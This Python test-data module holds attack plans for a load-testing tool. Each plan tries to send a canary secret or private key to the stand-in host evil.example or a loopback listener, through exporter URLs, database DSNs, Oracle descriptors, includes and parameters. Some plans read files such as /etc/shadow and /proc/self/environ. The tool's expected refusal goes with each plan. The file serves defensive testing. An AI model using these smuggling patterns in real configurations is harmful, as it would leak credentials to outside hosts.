"""Attacks as data: plans that try to send a secret of the coordinator to another host. `test_secret_destinations` runs
them.

A soak command can import them. Each has the files of a plan (`plan.yaml`, and perhaps includes and an inventory), the
parameters of the run, and `said`, a pattern of the refusal. The secrets are `CANARY`: in the variable LEAK_WORD, and in
the file {folder}/word of mode 0600; {folder}/key is a private key of mode 0600, and {folder}/.ssh, {folder}/pki hold
one each. `{port}` is a listener on loopback. An attack has succeeded when an endpoint of the run contains the canary or
the key, or when the listener receives a connection.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

CANARY = "kanarek-Zx81-geheim"
ELSEWHERE = "evil.example"

HEAD = """proveout: 1
name: leak
workloads: {{q: {{kind: sql, transactions: {{one: {{statements: {{q: {{sql: SELECT 1 AS x, expect_rows: 1}}}}}}}}}}}}
stages:
  - ladder: {{workload: q, target: db, threads: [1], think: {{constant: 5ms}}, ramp_up: 100ms, measure: 1s, ramp_down: 100ms, repeat: 1, limits: {{start_skew: 10s}}}}
"""
LOCAL = """topology:
  hosts: {{here: {{roles: [client], address: local}}}}
  systems: {{db: {{engine: sqlite, host: here, provision: embedded}}}}
"""
LAB = """topology:
  hosts:
    db1: {{roles: [server], address: "db1.lab.example:7443"}}
    c1: {{roles: [client], address: "10.0.0.7:7443"}}
"""
INVENTORY = (
    LAB
    + """  systems:
    db: {{engine: postgres, host: db1, dsn: "host=db1.lab.example user=u password=${{secrets.k}}"}}
secrets: {{k: {{env: LEAK_WORD}}}}
"""
)


@dataclass(frozen=True, kw_only=True)
class Attack:
    """Files by name, parameters, and a pattern of the refusal."""

    files: Mapping[str, str]
    said: str
    overrides: Mapping[str, str] = field(default_factory=dict)


def scraped(url: str, secrets: str = "k: {{env: LEAK_WORD}}", more: str = "") -> Mapping[str, str]:
    """A plan that scrapes an exporter."""
    capture = f'captures: {{{{c: {{{{kind: prometheus, on: here, url: "{url}", metrics: [{{{{name: up}}}}]}}}}}}}}\n'
    return {"plan.yaml": f"{HEAD}{LOCAL}secrets: {{{{{secrets}}}}}\n{capture}{more}"}


def connected(
    dsn: str, engine: str = "postgres", secrets: str = "k: {{env: LEAK_WORD}}", more: str = ""
) -> Mapping[str, str]:
    """A plan with a system at a lab's host."""
    system = f'  systems: {{{{db: {{{{engine: {engine}, host: db1, dsn: "{dsn}"}}}}}}}}\n'
    return {"plan.yaml": f"{HEAD}{LAB}{system}secrets: {{{{{secrets}}}}}\n{more}"}


K = "${{secrets.k}}"
NOT_NAMED = "is not one of them|does not name the exporter"
NOT_TO = "may go to .*, not to"
UNCLEAR = "destination of a secret is not clear"
KEY = "private key"

ATTACKS: Mapping[str, Attack] = {
    # ---- exporters
    "the user of an exporter's url, from a key": Attack(
        files=scraped(f"http://u:{K}@127.0.0.1:{{port}}/", "k: {{file: {folder}/key}}"), said=NOT_NAMED
    ),
    "the password of an exporter": Attack(files=scraped(f"http://u:{K}@127.0.0.1:{{port}}/m"), said=NOT_NAMED),
    "an exporter elsewhere": Attack(files=scraped(f"https://u:{K}@{ELSEWHERE}/m"), said=NOT_NAMED),
    "an exporter elsewhere, of a secret for another": Attack(
        files=scraped(f"https://u:{K}@{ELSEWHERE}/m", "k: {{env: LEAK_WORD, to: [db1.lab.example]}}"), said=NOT_TO
    ),
    "another port of the exporter's host": Attack(
        files=scraped(f"http://u:{K}@db1.lab:9999/m", "k: {{env: LEAK_WORD, to: ['db1.lab:9100']}}"), said=NOT_TO
    ),
    "the path of a url": Attack(
        files=scraped(f"http://127.0.0.1:{{port}}/{K}", "k: {{env: LEAK_WORD, to: [127.0.0.1]}}"), said="only be the password"
    ),
    "the query of a url": Attack(
        files=scraped(f"http://127.0.0.1:{{port}}/m?t={K}", "k: {{env: LEAK_WORD, to: [127.0.0.1]}}"), said="only be the password"
    ),
    "the host of a url": Attack(
        files=scraped(f"http://{K}.{ELSEWHERE}/m", "k: {{env: LEAK_WORD, to: [127.0.0.1]}}"), said="only be the password"
    ),
    "the port of a url": Attack(files=scraped(f"http://127.0.0.1:{K}/m"), said="not the address|only be the password"),
    "the fragment of a url": Attack(files=scraped(f"http://127.0.0.1/m#{K}"), said="not the address"),
    "two @ in a url": Attack(
        files=scraped(f"http://u:{K}@db1.lab@{ELSEWHERE}/m", "k: {{env: LEAK_WORD, to: [db1.lab]}}"), said=f"{UNCLEAR}|literal"
    ),
    "a backslash in a url": Attack(
        files=scraped(f"http://u:{K}@{ELSEWHERE}\\\\\\\\@db1.lab/m", "k: {{env: LEAK_WORD, to: [db1.lab]}}"), said=f"{UNCLEAR}|literal"
    ),
    "a name that begins as the listed one": Attack(
        files=scraped(f"http://u:{K}@db1.lab.{ELSEWHERE}/m", "k: {{env: LEAK_WORD, to: [db1.lab]}}"), said=NOT_TO
    ),
    "a name that ends as the listed one": Attack(
        files=scraped(f"http://u:{K}@x.db1.lab/m", "k: {{env: LEAK_WORD, to: [db1.lab]}}"), said=NOT_TO
    ),
    "a header is not a key of a capture": Attack(
        files={
            "plan.yaml": scraped("http://127.0.0.1/m")["plan.yaml"].replace("on: here,", f'on: here, headers: {{{{X: "{K}"}}}},')
        },
        said="unknown key `headers`|cannot be used here",
    ),
    # ---- parameters, includes, bases
    "an exporter by a parameter": Attack(
        files=scraped(f"http://u:{K}@${{{{params.at}}}}/m", more="params: {{at: {{type: text, default: db1.lab}}}}\n"),
        overrides={"at": ELSEWHERE},
        said=NOT_NAMED,
    ),
    "an exporter by a parameter, of a secret for its default": Attack(
        files=scraped(
            f"http://u:{K}@${{{{params.at}}}}/m",
            "k: {{env: LEAK_WORD, to: [db1.lab]}}",
            more="params: {{at: {{type: text, default: db1.lab}}}}\n",
        ),
        overrides={"at": ELSEWHERE},
        said=NOT_TO,
    ),
    "the bound itself by a parameter": Attack(
        files=scraped(
            f"http://u:{K}@{ELSEWHERE}/m",
            'k: {{env: LEAK_WORD, to: ["${{params.at}}"]}}',
            more="params: {{at: {{type: text, default: db1.lab}}}}\n",
        ),
        overrides={"at": ELSEWHERE},
        said="cannot be a template",
    ),
    "an exporter of an include": Attack(
        files={
            "plan.yaml": f"{HEAD}{LOCAL}include: more.yaml\nsecrets: {{{{k: {{{{env: LEAK_WORD}}}}}}}}\n",
            "more.yaml": f'captures: {{{{c: {{{{kind: prometheus, on: here, url: "http://u:{K}@{ELSEWHERE}/", metrics: [{{{{name: up}}}}]}}}}}}}}\n',
        },
        said=NOT_NAMED,
    ),
    "an exporter in a base": Attack(
        files={
            "plan.yaml": f"proveout: 1\nname: leak\nextends: base.yaml\ncaptures: {{{{c: {{{{kind: prometheus, on: here, url: 'http://u:{K}@{ELSEWHERE}/', metrics: [{{{{name: up}}}}]}}}}}}}}\n",
            "base.yaml": f"{HEAD}{LOCAL}secrets: {{{{k: {{{{env: LEAK_WORD, to: [db1.lab]}}}}}}}}\n",
        },
        said=NOT_TO,
    ),
    # ---- systems
    "the dsn of another host": Attack(files=connected(f"host={ELSEWHERE} user=u password={K}"), said=NOT_NAMED),
    "the dsn of another host, of a secret for the lab's": Attack(
        files=connected(f"host={ELSEWHERE} password={K}", secrets="k: {{env: LEAK_WORD, to: [db1.lab.example]}}"), said=NOT_TO
    ),
    "an address beside the host": Attack(files=connected(f"host=db1 hostaddr=203.0.113.7 password={K}"), said=NOT_NAMED),
    "a second host": Attack(files=connected(f"host=db1,{ELSEWHERE} password={K}"), said=NOT_NAMED),
    "a host that comes again": Attack(files=connected(f"host=db1 host={ELSEWHERE} password={K}"), said=NOT_NAMED),
    "a host in quotes": Attack(files=connected(f"host = 'evil\\\\.example' password={K}"), said=NOT_NAMED),
    "a service of libpq": Attack(files=connected(f"host=db1 service=x password={K}"), said=UNCLEAR),
    "a string in the database's name": Attack(files=connected(f"dbname='host={ELSEWHERE}' password={K}"), said=UNCLEAR),
    "the host of a dsn": Attack(files=connected(f"host={K}.{ELSEWHERE} user=u"), said=UNCLEAR),
    "the name of the application": Attack(files=connected(f"host=db1 application_name={K}"), said=UNCLEAR),
    "the host in a uri's query": Attack(files=connected(f"postgresql://u:{K}@db1/x?host={ELSEWHERE}"), said=NOT_NAMED),
    "a percent sign in a uri's query": Attack(files=connected(f"postgresql://u:{K}@db1/x?host=%65vil.example"), said=NOT_NAMED),
    "a second host of a uri": Attack(files=connected(f"postgresql://u:{K}@db1,{ELSEWHERE}/x"), said=NOT_NAMED),
    "two @ in a uri": Attack(files=connected(f"postgresql://u:{K}@db1@{ELSEWHERE}/x"), said=f"{UNCLEAR}|literal"),
    "the query of a uri": Attack(files=connected(f"postgresql://u@db1/x?application_name={K}"), said=UNCLEAR),
    "mysql elsewhere": Attack(files=connected(f"mysql://u:{K}@{ELSEWHERE}:3306/x", "mysql"), said=NOT_NAMED),
    "oracle elsewhere": Attack(files=connected(f"u/{K}@//{ELSEWHERE}:1521/X", "oracle"), said=NOT_NAMED),
    "oracle's second host": Attack(files=connected(f"u/{K}@//db1:1521,{ELSEWHERE}:1521/X", "oracle"), said=NOT_NAMED),
    "oracle by an alias": Attack(files=connected(f"u/{K}@EVIL", "oracle"), said=NOT_NAMED),
    "oracle by a proxy": Attack(files=connected(f"u/{K}@//db1/X?https_proxy={ELSEWHERE}", "oracle"), said=UNCLEAR),
    "oracle by a descriptor": Attack(
        files=connected(f"u/{K}@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST={ELSEWHERE})(PORT=1))(CONNECT_DATA=(SID=X)))", "oracle"),
        said=NOT_NAMED,
    ),
    "oracle by a descriptor's proxy": Attack(
        files=connected(f"u/{K}@(DESCRIPTION=(ADDRESS=(HTTPS_PROXY={ELSEWHERE})(HOST=db1)(PORT=1)))", "oracle"), said=UNCLEAR
    ),
    "oracle's connect string": Attack(files=connected(f"u/${{{{secrets.k}}}}@//db1/{K}", "oracle"), said=UNCLEAR),
    "a configuration that oracle fetches": Attack(
        files=connected(f"u/{K}@config-http://{ELSEWHERE}/x", "oracle"), said=f"{UNCLEAR}|{NOT_NAMED}"
    ),
    "timesten elsewhere": Attack(files=connected(f"u/{K}@{ELSEWHERE}/d:timesten_client", "timesten"), said=NOT_NAMED),
    "the sink that is told the source's dsn": Attack(
        files={
            "plan.yaml": HEAD + LAB + f"""  systems:
    db: {{{{engine: postgres, host: db1, propagates_to: sink, dsn: "host=db1 dbname=x password={K}"}}}}
    sink: {{{{engine: postgres, host: c1, dsn: "host={ELSEWHERE} dbname=x user=u"}}}}
secrets: {{{{k: {{{{env: LEAK_WORD}}}}}}}}
"""
        },
        said=NOT_NAMED,
    ),
    # ---- with the lab's inventory
    "an exporter that the plan names, with an inventory": Attack(
        files={
            "inventory.yaml": INVENTORY,
            "plan.yaml": f"""{HEAD}secrets: {{{{mine: {{{{env: LEAK_WORD, to: [{ELSEWHERE}]}}}}}}}}
captures: {{{{c: {{{{kind: prometheus, on: c1, url: "http://u:${{{{secrets.mine}}}}@{ELSEWHERE}/", metrics: [{{{{name: up}}}}]}}}}}}}}
""",
        },
        said="is not a host of the inventory",
    ),
    "a system that the plan adds, with an inventory": Attack(
        files={
            "inventory.yaml": INVENTORY,
            "plan.yaml": f"""{HEAD}topology:
  hosts: {{{{evil: {{{{address: "{ELSEWHERE}:7443"}}}}}}}}
  systems: {{{{mine: {{{{engine: postgres, host: c1, dsn: "host={ELSEWHERE} password={K}"}}}}}}}}
""",
        },
        said=NOT_NAMED,
    ),
    "a wider bound in the plan, with an inventory": Attack(
        files={
            "inventory.yaml": INVENTORY,
            "plan.yaml": f"""{HEAD}secrets: {{{{k: {{{{env: LEAK_WORD, to: [{ELSEWHERE}]}}}}}}}}
captures: {{{{c: {{{{kind: prometheus, on: c1, url: "http://u:{K}@{ELSEWHERE}/", metrics: [{{{{name: up}}}}]}}}}}}}}
""",
        },
        said=NOT_NAMED,
    ),
    "the inventory's host by a parameter of the plan": Attack(
        files={
            "inventory.yaml": LAB + f"""  systems:
    db: {{{{engine: postgres, host: db1, dsn: "host=${{{{params.at}}}} password={K}"}}}}
secrets: {{{{k: {{{{env: LEAK_WORD}}}}}}}}
""",
            "plan.yaml": f"{HEAD}params: {{{{at: {{{{type: text, default: {ELSEWHERE}}}}}}}}}\n",
        },
        said=NOT_NAMED,
    ),
    # ---- files: with a bound that allows the listener
    **{
        f"a private key: {name}": Attack(
            files=scraped(f"http://u:{K}@127.0.0.1:{{port}}/", f"k: {{{{file: {path}, to: [127.0.0.1]}}}}"), said=said
        )
        for name, path, said in (
            ("by its content", "{folder}/key", KEY),
            ("behind a link", "{folder}/link", KEY),
            ("behind a folder that is a link", "{folder}/ssh-link/id", "folder of keys"),
            ("in .ssh", "{folder}/.ssh/id", "folder of keys"),
            ("in pki", "{folder}/pki/ca.key", "folder of keys"),
            ("by `..`", "{folder}/pki/../pki/ca.key", "folder of keys"),
            ("by its name", "{folder}/id_ed25519", KEY),
            ("in Base64", "{folder}/encoded", KEY),
            ("in DER", "{folder}/der", "not UTF-8"),
            ("of OpenSSH", "{folder}/openssh", KEY),
            ("of age", "{folder}/age", KEY),
            ("of PuTTY", "{folder}/putty", KEY),
            ("of a cloud's account", "{folder}/account.json", KEY),
            ("as a second name of the file", "{folder}/hard", KEY),
        )
    },
    **{
        f"no password: {path}": Attack(
            files=scraped(f"http://u:{K}@127.0.0.1:{{port}}/", f"k: {{{{file: {path}, to: [127.0.0.1]}}}}"),
            said="where there are no passwords|more than one line|more than 4096|not a regular file|cannot be read",
        )
        for path in (
            "/proc/self/environ", "/proc/self/fd/0", "/dev/stdin", "/dev/fd/0", "/etc/shadow", "/sys/kernel/notes", "{folder}/lines",
            "{folder}/long", "{folder}/fifo", "{folder}/environ-link",
        )
    },
    "a private key in a variable": Attack(
        files=scraped(f"http://u:{K}@127.0.0.1:{{port}}/", "k: {{env: LEAK_KEY, to: [127.0.0.1]}}"), said=KEY
    ),
}  # fmt: skip
